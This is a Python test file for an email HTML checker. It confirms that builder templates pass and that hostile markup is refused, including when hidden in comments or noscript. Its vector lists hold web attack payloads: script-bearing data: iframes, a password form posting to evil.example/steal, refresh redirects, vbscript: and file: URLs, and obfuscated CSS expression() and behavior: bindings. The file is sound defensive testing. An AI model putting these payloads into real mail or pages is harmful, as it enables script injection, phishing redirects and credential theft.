"""What a mail may be made of: what builders make, and nothing that is not on the list."""

from pathlib import Path

from postledger.content.rendering.html import checks
from postledger.content.rendering.source import Format, Source, make_script, prepare

BUILDERS = sorted((Path(__file__).parent / "builders").glob("*.html"))
MJML = Path(__file__).parent / "builders" / "every-component.mjml"
WHOLE = "<!DOCTYPE html>\n<html><body>\n{}\n</body></html>"


def refused(html: str) -> list[tuple[str, str]]:
    return [(finding.code, finding.place) for finding in checks.check_html(html)]


def test_what_a_builder_makes_may_be_sent() -> None:
    for path in BUILDERS:
        html = path.read_text()
        # Not as a letter: the Liquid of builders is not ours.
        prepared = prepare(Source("News", html, Format.HTML))

        assert checks.check_html(html) == [], path.name
        assert checks.check_html(prepared.html) == [], path.name
    script = make_script(Source("News", MJML.read_text(), Format.MJML))
    assert checks.check_html(script.html) == []
    assert "mj-carousel" in script.html
    assert "v:rect" in script.html


# code, what stands on the third line
VECTORS = [
    *(
        ("element_refused", html)
        for html in (
            '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
            '<iframe srcdoc="&lt;p&gt;hello&lt;/p&gt;"></iframe>',
            '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
            '<embed src="https://evil.example/x.swf">',
            '<applet code="x"></applet>',
            '<frameset><frame src="https://evil.example"></frameset>',
            '<form action="https://evil.example/steal"><input name="password"></form>',
            '<input type="image" src="https://evil.example/a.png">',
            "<textarea name=a></textarea>",
            "<select><option>a</select>",
            '<button formaction="https://evil.example">Go</button>',
            '<base href="https://evil.example/">',
            '<meta http-equiv=" Refresh " content="0">',
            '<META HTTP-EQUIV="Set-Cookie" content="a=b">',
            '<meta http-equiv="refresh" content="0;url=//evil.example" http-equiv="content-type">',
            '<meta http-equiv="content-type" http-equiv="refresh" content="0;url=//evil.example">',
            '<input type="checkbox " name="p">',
            '<input type="password" name="p" type="checkbox">',
            '<input type="checkbox" name="p" type="password">',
            "<input name=p>",
            '<link rel="prerender" href="https://evil.example" rel="stylesheet">',
            '<link rel="stylesheet" href="https://evil.example" rel="prerender">',
            '<link rel="import" href="https://evil.example/a.html">',
            "<svg><animate attributeName=href to=x /></svg>",
            '<math><mi xlink:href="data:x">a</mi></math>',
            "<template><p>hidden</p></template>",
            "<x-custom>what is this</x-custom>",
            "Write to <alice@example.com>",
        )
    ),
    *(
        ("url_refused", html)
        for html in (
            '<a href=" VBScript:msgbox(1)">x</a>',
            '<a href="vb&#115;cript:msgbox(1)">x</a>',
            '<a href="v\nbscript:x">x</a>',
            '<a href="data:text/html,x">x</a>',
            '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
            '<a href="file:///etc/passwd">x</a>',
            '<a href="ftp://evil.example/">x</a>',
            '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
            '<img src="data:image/svg+xml,%3Csvg%3E">',
            '<img src="file://evil.example/share/a.png">',
            '<img srcset="a.png 1x, data:text/html,x 2x">',
            '<td background="vbscript:x">x</td>',
            '<v:rect href="vbscript:x"></v:rect>',
            '<v:fill src="file://evil.example/a"/>',
            '<v:rect o:href="vbscript:x"></v:rect>',
            '<v:fill o:src="file://evil.example/a"/>',
            '<style>a{content:"/*"} p{background:url(vbscript:x)} b{content:"*/"}</style>',
            '<style>a{content:"/*"} @import "ftp://evil.example/a"; b{content:"*/"}</style>',
            "<p style=\"background:url('vbscript:x')\">x</p>",
            '<p style="background:url(data:text/html,x)">x</p>',
            "<p style=\"background:url('&#118;bscript:x')\">x</p>",
            '<p style="background:u\\72l(vb\\73 cript:x)">x</p>',
            "<style>p{background:url( 'file://evil.example/a' )}</style>",
            '<style>@import "ftp://evil.example/a.css";</style>',
            "<style>@import url(data:text/css,p{});</style>",
        )
    ),
    *(
        ("attribute_refused", html)
        for html in (
            '<a href="https://a.example" ping="https://evil.example">x</a>',
            '<a href="https://a.example" download>x</a>',
            '<p contenteditable="true">x</p>',
            '<html manifest="https://evil.example/a.appcache">',
            '<img dynsrc="https://evil.example/a.avi">',
            '<p is="x-evil">x</p>',
            '<a xlink:href="https://evil.example">x</a>',
            '<table datasrc="#x" datafld="y"><tr><td>x</table>',
        )
    ),
    *(
        ("style_refused", html)
        for html in (
            '<p style="width:expression(alert(1))">x</p>',
            '<p style="width:exp/**/ression(alert(1))">x</p>',
            '<p style="width:e\\78pression(alert(1))">x</p>',
            '<p style="behavior:url(https://evil.example/a.htc)">x</p>',
            '<p style="-moz-binding:url(https://evil.example/a.xml#b)">x</p>',
            "<style>p{width:expression (alert(1))}</style>",
            "<style>p{behavior : url(a.htc)}</style>",
            "<style>/* never closed */p{-moz-binding:none}",
            '<style>a{content:"/*"} p{behavior:url(//evil.example/a)} b{content:"*/"}</style>',
            "<p style=\"content:'/*';width:expression(alert(1));content:'*/'\">x</p>",
            "<style>a{} </stylex> b{} p{behavior:url(https://evil.example/x.htc)}</style>",
        )
    ),
]


def test_what_is_not_on_the_list_is_refused_with_its_line_and_a_remedy() -> None:
    for code, html in VECTORS:
        findings = checks.check_html(WHOLE.format(html))

        assert (code, "html, line 3") in [(each.code, each.place) for each in findings], html
        assert all(finding.remedy and not finding.is_warning for finding in findings), html


def test_nothing_hides_it() -> None:
    hides = [
        "<!--[if mso]>{}<![endif]-->",
        "<!-- {} -->",
        "<title>{}</title>",
        "<style></style x>{}",
        "<noscript>{}</noscript>",
    ]
    # The first of each code behind every screen, and each of the others behind one of them.
    firsts = dict(reversed(VECTORS)).items()
    hidden = [(code, hide.format(html)) for hide in hides for code, html in firsts]
    hidden += [
        (code, hides[at % len(hides)].format(html)) for at, (code, html) in enumerate(VECTORS)
    ]

    for code, html in hidden:
        assert code in [found for found, _ in refused(WHOLE.format(html))], html


def test_a_remembered_tag_makes_no_other_reading_fine() -> None:
    """What is remembered ends at the first >: no program can read it in another way."""
    assert refused('<p title="a">x</p>') == []

    assert refused("<p title='<p title=\"a\"><iframe src=x>'>") != []
    assert refused('<p title="a"><p title="<iframe src=x>">') != []
